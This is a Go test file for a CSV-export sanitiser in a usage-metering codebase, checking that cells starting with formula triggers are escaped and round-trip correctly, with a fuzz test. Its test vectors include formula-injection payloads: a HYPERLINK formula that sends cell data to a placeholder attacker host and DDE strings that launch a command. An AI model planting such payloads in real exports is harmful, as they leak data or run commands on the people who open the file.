package csvsafe_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"

	"github.com/usagemeter/metering/internal/csvsafe"
)

func TestCell(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"", ""},
		{"acme", "acme"},
		{"api_calls", "api_calls"},
		{"2026-11", "2026-11"},
		{"0", "0"},
		{"42", "42"},
		{"-42", "-42"},
		{"3.5", "3.5"},
		{"-0.25", "-0.25"},
		{"-", "-"},
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"+1", "'+1"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"--42", "'--42"},
		{"-42.", "'-42."},
		{"-.5", "'-.5"},
		{"-1e5", "'-1e5"},
		{"-sum(A1:A9)", "'-sum(A1:A9)"},
		{"-demo", "'-demo"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"'=1", "'=1"}, // already text to a spreadsheet
		{"a=1", "a=1"},
		{" =1", " =1"},
		{"under-reported: the next sync sends the difference", "under-reported: the next sync sends the difference"},
	}
	for _, tt := range tests {
		if got := csvsafe.Cell(tt.in); got != tt.want {
			t.Errorf("Cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestWriterRoundTrip(t *testing.T) {
	t.Parallel()
	records := [][]string{
		{"tenant", "drift", "note"},
		{"-acme", "-42", `=cmd|"/c calc"!A0`},
		{"a;=1+1", "a\t@x", "line\nbreak, \"quoted\""},
		{"", "-", "ok"},
	}
	var buf bytes.Buffer
	w := csvsafe.NewWriter(&buf)
	for _, r := range records {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	// Every cell is quoted, so no reader splitting on ';' or tab exposes "=1+1".
	if !strings.Contains(buf.String(), `"a;=1+1"`) || !strings.HasPrefix(buf.String(), `"tenant","drift","note"`+"\n") {
		t.Fatalf("output:\n%s", buf.String())
	}
	back, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range records {
		for j, c := range r {
			if back[i][j] != csvsafe.Cell(c) {
				t.Errorf("record %d cell %d: read back %q, want %q", i, j, back[i][j], csvsafe.Cell(c))
			}
		}
	}
	if back[1][0] != "'-acme" || back[1][1] != "-42" || back[1][2] != `'=cmd|"/c calc"!A0` {
		t.Errorf("record 1 read back as %q", back[1])
	}
}

type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestWriterError(t *testing.T) {
	t.Parallel()
	w := csvsafe.NewWriter(failingWriter{})
	_ = w.Write([]string{"a"})
	if err := w.Flush(); err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Fatalf("Flush = %v, want the writer's error", err)
	}
	if err := w.Write([]string{"b"}); err == nil {
		t.Fatal("Write after an error succeeded")
	}
}

// FuzzWriter: whatever the cells, encoding/csv reads back one record of
// Cell(c) per cell, and no field starts with a formula trigger unless it
// is a plain number or "-".
func FuzzWriter(f *testing.F) {
	for _, s := range []string{"", "-", "-42", "=1+1", "@a", "\t", "\r\n", `"`, "a,b", "-1.5", "+"} {
		f.Add(s, "x")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		var buf bytes.Buffer
		w := csvsafe.NewWriter(&buf)
		_ = w.Write([]string{a, b})
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(&buf)
		r.LazyQuotes = false
		back, err := r.ReadAll()
		if err != nil {
			t.Fatalf("reading %q: %v", buf.String(), err)
		}
		if len(back) != 1 || len(back[0]) != 2 {
			t.Fatalf("read back %q from %q", back, buf.String())
		}
		for i, c := range []string{a, b} {
			want := strings.ReplaceAll(csvsafe.Cell(c), "\r\n", "\n")
			if back[0][i] != want {
				t.Fatalf("cell %q read back as %q, want %q", c, back[0][i], want)
			}
			if got := back[0][i]; got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) && got != "-" && !isNumber(got) {
				t.Fatalf("cell %q read back as %q, which a spreadsheet runs", c, got)
			}
		}
	})
}

func isNumber(s string) bool {
	s = strings.TrimPrefix(s, "-")
	if s == "" {
		return false
	}
	dot := false
	for i, r := range s {
		switch {
		case r >= '0' && r <= '9':
		case r == '.' && !dot && i > 0 && i < len(s)-1:
			dot = true
		default:
			return false
		}
	}
	return true
}
